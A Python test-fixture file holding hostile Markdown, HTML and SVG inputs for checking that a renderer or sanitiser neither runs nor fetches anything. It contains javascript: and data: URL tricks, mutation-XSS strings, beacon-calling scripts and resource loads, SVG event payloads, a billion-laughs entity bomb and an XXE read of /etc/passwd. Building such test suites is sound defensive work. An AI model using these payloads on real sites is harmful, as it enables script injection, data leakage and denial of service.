"""Markdown, HTML and SVG that would run or fetch something, with ``BEACON`` where an address is."""

from __future__ import annotations

from typing import Final

from tests.hostile.texts import MARK

SCHEMES: Final = (
    *("javascript:hostile=1", "JaVaScRiPt:hostile=1", "javascript&colon;hostile=1"),
    *("&#106;avascript:hostile=1", "&#x6A&#x61&#x76&#x61&#x73cript:hostile=1"),
    *("javascript&#58;hostile=1", "java%0ascript:hostile=1", "\x01javascript:hostile=1"),
    *("javascript\u2028:hostile=1", "vbscript:hostile", "VBSCRIPT:hostile", "livescript:x"),
    *("data:text/html,<script>hostile=1</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *("DATA:image/svg+xml,<svg/onload=hostile=1>", "data:image/png;base64,AAAA"),
    *("blob:https://example.org/x", "filesystem:https://example.org/x", "view-source:x"),
    *("ms-msdt:/id", "ms-word:ofe|u|BEACON/x", "search-ms:query=x", "tel:1", "ws://example.org"),
    *("file:///etc/passwd", "ftp://example.org/x", "jar:BEACON/x!/", "steam://run/1"),
    *("//example.org/x", "///example.org/x", "\\\\example.org\\x", "/\\example.org/x"),
    *("../../outside/canary.txt", "..\\outside", "%2e%2e/x", "/etc/passwd", "C:\\x", "x.html"),
    *("?q=1", "https:/\\example.org", "https:example.org", " https//x"),
)
"""Addresses that no link and no picture of a note may lead to."""

MARKDOWN: Final = (
    *(f"[{MARK} link]({scheme})" for scheme in SCHEMES),
    *(f"![{MARK} picture](<{scheme}>)" for scheme in SCHEMES),
    *(f"<{scheme}>" for scheme in SCHEMES),
    *(f"[{MARK} reference]\n\n[{MARK} reference]: {scheme}" for scheme in SCHEMES),
    f"[{MARK}](java\nscript:hostile=1) [{MARK}](java\tscript:hostile=1)",
    f"![{MARK}](BEACON/picture.png) ![{MARK}](BEACON/p.svg 'title') [![{MARK}](BEACON/b)](x:y)",
    f"![{MARK}][far]\n\n[far]: BEACON/reference.png",
    f'![{MARK}" onerror="hostile=1](x.png) [{MARK}](https://e.org "t\\" onclick=\\"hostile=1")',
    f"<script>hostile=1</script> {MARK}",
    f"<img src=BEACON/html onerror=hostile=1> <svg onload=hostile=1> {MARK}",
    f"<div\nonclick=hostile=1>\n{MARK}\n</div>\n\n<!-- {MARK} --> <?php {MARK}?>",
    f"<![CDATA[{MARK}]]>",
    f'```"><script>hostile=1</script>\n{MARK}\n```',
    f"~~~ python onclick=hostile=1 {{.x #body}}\n{MARK}\n~~~",
    f"```html\n<script>hostile=1</script> {MARK}\n```",
    f"    <script>hostile=1</script> {MARK}",
    f"`<script>hostile=1</script> {MARK}`",
    f'|<script>{MARK}|"onclick=x|\n|:--|--:|\n|<svg/onload=hostile=1>|`<b>`|',
    f"# body\n\n# location {MARK}\n\n## <a id=config name=currentScript>\n\n# __proto__",
    f"{MARK}[^1] [^<script>]\n\n[^1]: <img src=BEACON/note onerror=hostile=1>\n[^<script>]: x",
    f"<https://example.org/\"onclick=hostile=1> <a@b.c'onclick=hostile=1> {MARK}",
    f"[{MARK}](https://example.org/'onmouseover='hostile=1)",
    f"[{MARK}](https://e.org/%22%3E%3Cscript)",
    f"<!--<script>{MARK} --!> <style>@import 'BEACON/style'</style>",
    f"&lt;script&gt;hostile=1&lt;/script&gt; {MARK}",
    f"&#60;img src=BEACON/entity onerror=hostile=1&#62; {MARK}",
    f"<details open ontoggle=hostile=1>\n\n{MARK}\n\n</details>",
    f"</p></div></main></body></html><plaintext>{MARK}",
    "> " * 300 + MARK,
    "[" * 300 + MARK + "](x)" * 300,
)
"""Pieces of Markdown, each with `MARK` or a link that may not be one."""

MUTATING: Final = (
    "<math><mtext><table><mglyph><style><img src=BEACON/m1 onerror=hostile=1></style></table>",
    "<svg></p><style><a id='</style><img src=BEACON/m2 onerror=hostile=1>'>",
    "<noscript><p title='</noscript><img src=BEACON/m3 onerror=hostile=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile=1>",
    "<math><annotation-xml encoding='text/html'><style><img src=BEACON/m5 onerror=hostile=1>",
    "<template><style></template><img src=BEACON/m6 onerror=hostile=1>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x:>'>",
    "<svg><foreignObject><iframe srcdoc='<script>hostile=1</script>'></foreignObject></svg>",
    "<svg><desc><title><![CDATA[</title><img src=BEACON/m9 onerror=hostile=1>]]></desc>",
    "<xmp><p title='</xmp><svg onload=hostile=1>'>",
    "<textarea><p title='</textarea><img src onerror=hostile=1>'>",
    "<title><a title='</title><img src onerror=hostile=1>'>",
    "<iframe><p title='</iframe><img src onerror=hostile=1>'>",
    "<noembed><p title='</noembed><img src onerror=hostile=1>'>",
    "<!--><img src onerror=hostile=1>--> <!--!> <img src onerror=hostile=1> --!><!--",
    "<![CDATA[<img src onerror=hostile=1>]]> <? <img src onerror=hostile=1> ?>",
    "<a href='\x01javascript:hostile=1'>x</a><a href='java&#10;script:hostile=1'>y</a>",
    "<table><td><svg><tr><style><img src onerror=hostile=1></style>",
    "<p><table><caption><svg><p><style><!--</style><img src onerror=hostile=1>-->",
    "<b><a href=x><b></a><i><p></b><img src onerror=hostile=1></i>",
    "<font color='</font><script>hostile=1</script>'><ruby><rtc><svg/onload=hostile=1>",
    "<img src='x`'onerror=hostile=1`><img alt='``onerror=hostile=1' src=y>",
    "<svg><a xlink:href='javascript:hostile=1'><text y=9>x</text></a></svg>",
    "<math href='javascript:hostile=1'>x</math><math><maction actiontype=statusline>y",
    "<isindex action='javascript:hostile=1'><keygen autofocus onfocus=hostile=1><bgsound src=x>",
)
"""HTML that another reading makes something else of, as found in sanitisers over the years."""

_ACTIVE: Final = (
    "<script>hostile=1; try { parent.hostile = 2; top.hostile = 3 } catch {}",
    "fetch('BEACON/fetch'); new Image().src = 'BEACON/image'; open('BEACON/popup');",
    "navigator.sendBeacon('BEACON/sent'); top.location = 'BEACON/top';",
    "location = 'BEACON/self'; document.cookie = 'a=b'; localStorage.a = 1</script>",
    "<script src=BEACON/script></script><script type=module>import 'BEACON/module'</script>",
    "<meta http-equiv=refresh content='0;url=BEACON/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:hostile=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "<base href='BEACON/base/' target=_top>",
    "<link rel=stylesheet href=BEACON/css><link rel=prefetch href=BEACON/prefetch>",
    "<link rel=preload as=image href=BEACON/preload><link rel=icon href=BEACON/icon>",
    "<link rel=dns-prefetch href=BEACON><link rel=preconnect href=BEACON>",
    "<link rel=manifest href=BEACON/manifest><link rel=modulepreload href=BEACON/modulepreload>",
    "<style>@import 'BEACON/import'; body { background: url(BEACON/background) }",
    "@font-face { font-family: f; src: url(BEACON/font) } body { font-family: f }</style>",
    "<body background=BEACON/body onload=hostile=4 style='background: url(BEACON/inline)'>",
    "<img src=BEACON/img srcset='BEACON/srcset 2x' onerror=hostile=5>",
    "<picture><source srcset=BEACON/source><img src=BEACON/picture></picture>",
    "<video src=BEACON/video poster=BEACON/poster autoplay></video>",
    "<audio src=BEACON/audio autoplay>",
    "</audio><track src=BEACON/track><embed src=BEACON/embed><object data=BEACON/object></object>",
    "<iframe src=BEACON/frame></iframe><iframe src='javascript:parent.hostile=6'></iframe>",
    "<iframe srcdoc='<iframe srcdoc=&quot;<script>top.hostile=7</script>&quot;>'></iframe>",
    "<frameset><frame src=BEACON/frameset></frameset><portal src=BEACON/portal></portal>",
    "<form action=BEACON/form method=post><input name=a autofocus onfocus=hostile=8>",
    "<button formaction=BEACON/button>go</button></form><form id=body name=location></form>",
    "<a href='javascript:hostile=9' ping=BEACON/ping target=_top>{MARK} link</a>",
    "<a href='data:text/html,<script>hostile=1</script>'>{MARK} data</a>",
    "<a href='//example.org/x'>{MARK} there</a><area href='BEACON/area' shape=default>",
    "<svg onload=hostile=10><use href='BEACON/use#x'/><image href=BEACON/svgimage />",
    "<script>hostile=11</script></svg><math><mi xlink:href='javascript:hostile=12'>x</mi></math>",
    "<details open ontoggle=hostile=13><summary>{MARK} summary</summary></details>",
    "<table background=BEACON/table><td background=BEACON/cell>{MARK} cell</td></table>",
    "<input type=image src=BEACON/input><marquee onstart=hostile=14>{MARK} marquee</marquee>",
    "<p>{MARK} text</p>",
)


def document(beacon: str) -> str:
    """An HTML document that tries what documents can try."""
    head = f"<!doctype html><html manifest={beacon}/appcache><head><title>{MARK}</title>"
    parts = "\n".join((*_ACTIVE, *MUTATING))
    return head + place(parts.replace("{MARK}", MARK), beacon)


SVG: Final = {
    "script": "<script>hostile=1; fetch('BEACON/svg-fetch')</script>"
    "<script href='BEACON/svg-script'/><a href='javascript:hostile=1'><text y='9'>x</text></a>",
    "events": "<rect width='9' height='9' onload='hostile=1'/>"
    "<animate attributeName='x' onbegin='hostile=1' begin='0s' dur='1s'/>"
    "<a id='a'><text y='9'>x</text></a>"
    "<set href='#a' attributeName='href' to='javascript:hostile=1' begin='0s'/>",
    "far": "<image href='BEACON/svg-image' width='9' height='9'/><use href='BEACON/svg-use#x'/>"
    "<style>@import 'BEACON/svg-import'; rect { fill: url(BEACON/svg-fill#x) }</style>"
    "<rect width='9' height='9' filter='url(BEACON/svg-filter#x)'/>"
    "<feImage href='BEACON/svg-feimage'/><image href='../../outside/canary.txt'/>",
    "frames": "<foreignObject width='99' height='99'>"
    "<body xmlns='http://www.w3.org/1999/xhtml'><script>hostile=1</script>"
    "<iframe src='BEACON/svg-frame'/><img src='BEACON/svg-html'/><video src='BEACON/svg-video'/>"
    "</body></foreignObject>",
    "nested": "<image href='data:image/svg+xml,&lt;svg onload=&quot;hostile=1&quot; "
    "xmlns=&quot;http://www.w3.org/2000/svg&quot;/&gt;' width='9' height='9'/>",
}
"""Contents of SVG pictures."""


def picture(kind: str, beacon: str, *, before: str = "") -> str:
    """An SVG picture with one of the contents of `SVG`, after what stands `before` it."""
    inner = place(SVG[kind], beacon)
    return (
        f"{before}<svg xmlns='http://www.w3.org/2000/svg' width='40' height='20' "
        f"onload='hostile=1'><title>{MARK}</title><rect width='40' height='20'/>{inner}</svg>"
    )


def bomb(kind: str) -> str:
    """What stands before an SVG picture and makes it endless, or takes it from elsewhere."""
    deep = "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' if level else '<!ENTITY e0 "lol">'
        for level in range(10)
    )
    return {
        "laughs": f"<?xml version='1.0'?><!DOCTYPE svg [{deep}]>",
        "file": "<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "sheet": "<?xml-stylesheet href='BEACON/svg-sheet' type='text/css'?>",
        "declaration": "<!DOCTYPE svg SYSTEM 'BEACON/svg-dtd'>",
    }[kind]


def place(text: str, beacon: str) -> str:
    """A text with the address of the beacon where it belongs."""
    return text.replace("BEACON", beacon)
